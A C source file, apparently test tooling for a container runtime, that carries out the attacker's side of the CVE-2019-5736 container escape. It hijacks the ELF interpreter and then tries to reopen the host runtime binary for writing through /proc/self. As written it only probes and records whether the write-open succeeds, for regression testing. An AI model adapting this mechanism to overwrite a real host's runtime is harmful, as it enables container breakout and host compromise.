/* fake-interp.c - the attacker's half of CVE-2019-5736, for the tests in
 * tests/integration/exe-escape.bats.  It never writes a byte to anything
 * but its report.
 *
 * The test puts this program in a volume at the path of the runtime's ELF
 * interpreter (PT_INTERP, /lib64/ld-linux-x86-64.so.2) and runs a script
 * whose first line is "#!/proc/self/exe".  If the process that execs the
 * script is still backed by the runtime's binary, the kernel runs that
 * binary as the script's interpreter and maps this program as ITS
 * interpreter: stage 1 below then runs with /proc/self/exe pointing at the
 * host's file.  It takes an O_PATH descriptor of it, execs itself (stage 2)
 * so that no process of its own maps the file any more, and tries to open
 * the descriptor for writing until the runtime's processes have gone (the
 * kernel refuses with ETXTBSY while any runs).
 *
 * Report lines, appended to REPORT (one write each):
 *   stage1 DEV:INO LINK     what /proc/self/exe was
 *   stage2 OPENED DEV:INO   the reopen for writing succeeded (closed at once)
 *   stage2 REFUSED ERRNO    the reopen failed for another reason than ETXTBSY
 *   stage2 BUSY             still ETXTBSY when the time ran out
 *
 * Loaded as an interpreter, the program finds the runtime's program headers
 * in its auxiliary vector, not its own: a C library's start-up code would
 * misread them, so this is freestanding (-nostdlib -static), with system
 * calls by number (core/exec_stub/raw_syscall.h, shared with the exec
 * stub; build with -I core/exec_stub). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/stat.h>
#include <stddef.h>
#include <sys/syscall.h>

#include "raw_syscall.h"

#define REPORT "/attack/report"
#define SELF "/lib64/ld-linux-x86-64.so.2"
#define WAIT_MS 3000

#define sys3 raw_syscall3
#define sys4 raw_syscall4
#define sys6 raw_syscall6

static size_t len(const char *s)
{
  size_t n = 0;
  while (s[n])
    n++;
  return n;
}

/* Decimal of v at the end of buf[32]; returns its start. */
static char *num(unsigned long long v, char *buf)
{
  char *p = buf + 31;
  *p = '\0';
  do
    *--p = (char)('0' + v % 10);
  while (v /= 10);
  return p;
}

static long to_long(const char *s)
{
  long v = 0;
  for (; *s >= '0' && *s <= '9'; s++)
    v = v * 10 + (*s - '0');
  return v;
}

/* One line into the report: the parts joined by spaces. */
static void report(const char *const *parts)
{
  char line[512];
  size_t n = 0;
  for (size_t i = 0; parts[i]; i++) {
    for (const char *p = parts[i]; *p && n < sizeof line - 2; p++)
      line[n++] = *p;
    if (parts[i + 1] && n < sizeof line - 2)
      line[n++] = ' ';
  }
  line[n++] = '\n';
  long fd = sys4(SYS_openat, AT_FDCWD, REPORT,
                 O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (fd < 0)
    return;
  sys3(SYS_write, fd, line, n);
  sys3(SYS_close, fd, 0, 0);
}

/* "DEV:INO" of fd, as stat(1) prints %d:%i (the device number in decimal,
 * the kernel's encoding of major and minor). */
static char *devino(long fd, char *out)
{
  struct statx st;
  out[0] = '\0';
  if (sys6(SYS_statx, fd, (long)"", AT_EMPTY_PATH, STATX_INO, (long)&st, 0) < 0)
    return out;
  unsigned long long dev =
      ((unsigned long long)(st.stx_dev_major & 0xfff) << 8) |
      (st.stx_dev_minor & 0xff) |
      ((unsigned long long)(st.stx_dev_minor & ~0xffu) << 12) |
      ((unsigned long long)(st.stx_dev_major & ~0xfffu) << 32);
  char a[32], b[32];
  const char *d = num(dev, a), *i = num(st.stx_ino, b);
  size_t n = 0;
  while (*d)
    out[n++] = *d++;
  out[n++] = ':';
  while (*i)
    out[n++] = *i++;
  out[n] = '\0';
  return out;
}

static void stage1(void)
{
  long fd = sys4(SYS_openat, AT_FDCWD, "/proc/self/exe", O_PATH, 0);
  if (fd < 0) {
    const char *parts[] = {"stage1", "no-exe", NULL};
    report(parts);
    return;
  }
  char path[64] = "/proc/self/fd/", link[256], di[64], nb[32];
  const char *n = num((unsigned long long)fd, nb);
  size_t pl = len(path);
  while (*n)
    path[pl++] = *n++;
  path[pl] = '\0';
  long ll = sys6(SYS_readlinkat, AT_FDCWD, (long)path, (long)link,
                 sizeof link - 1, 0, 0);
  link[ll > 0 ? ll : 0] = '\0';
  const char *parts[] = {"stage1", devino(fd, di), link, NULL};
  report(parts);
  /* Stage 2 in a fresh image: nothing of ours maps the runtime's file. */
  char *const argv[] = {(char *)"stage2",
                        (char *)num((unsigned long long)fd, nb), NULL};
  char *const envp[] = {NULL};
  sys3(SYS_execve, SELF, argv, envp);
}

static void stage2(long fd)
{
  char path[64] = "/proc/self/fd/", nb[32], di[64];
  const char *n = num((unsigned long long)fd, nb);
  size_t pl = len(path);
  while (*n)
    path[pl++] = *n++;
  path[pl] = '\0';
  for (int waited = 0; waited < WAIT_MS; waited += 20) {
    /* O_WRONLY without O_TRUNC: opening changes nothing. */
    long w = sys4(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CLOEXEC, 0);
    if (w >= 0) {
      const char *parts[] = {"stage2", "OPENED", devino(w, di), NULL};
      sys3(SYS_close, w, 0, 0);
      report(parts);
      return;
    }
    if (w != -26 /* ETXTBSY */) {
      const char *parts[] = {"stage2", "REFUSED",
                             num((unsigned long long)-w, nb), NULL};
      report(parts);
      return;
    }
    struct {
      long s, ns;
    } ts = {0, 20 * 1000 * 1000};
    sys3(SYS_nanosleep, &ts, 0, 0);
  }
  const char *parts[] = {"stage2", "BUSY", NULL};
  report(parts);
}

/* Called from _start with the initial stack. */
__attribute__((used)) void fake_main(long *sp)
{
  long argc = sp[0];
  char **argv = (char **)(sp + 1);
  if (argc >= 2 && argv[0][0] == 's' && len(argv[0]) == 6 && argv[0][5] == '2')
    stage2(to_long(argv[1]));
  else
    stage1();
  sys3(SYS_exit_group, 0, 0, 0);
}

RAW_ENTRY(fake_main);
